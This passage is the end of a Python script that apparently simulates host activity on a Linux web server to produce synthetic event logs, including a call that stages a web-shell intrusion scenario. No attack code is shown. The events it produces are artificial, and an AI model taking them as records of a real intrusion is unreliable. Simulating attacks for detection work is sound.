    server = Host("srv-web-01", "srv-web-01", "linux", "24.04.2 LTS", "10.20.0.21")
    init = server.boot("/usr/lib/systemd/systemd", 1)
    sshd = server.boot("/usr/sbin/sshd", 801, init)
    web = server.boot("/usr/sbin/nginx", 820, init, "www-data")
    server.pid = 20_000
    php = linux_ordinary(server, web, sshd, server.boot("/usr/sbin/cron", 640, init))
    web_shell(server, php, sshd)
    total = 0
    for host in (finance.host, second.host, admin.host, accounts.host, quiet.host, server):
        count = host.finish(folder)
        total += count
        print(f"{host.name}: {count} events")
    print(f"{total} events")


if __name__ == "__main__":
    main()
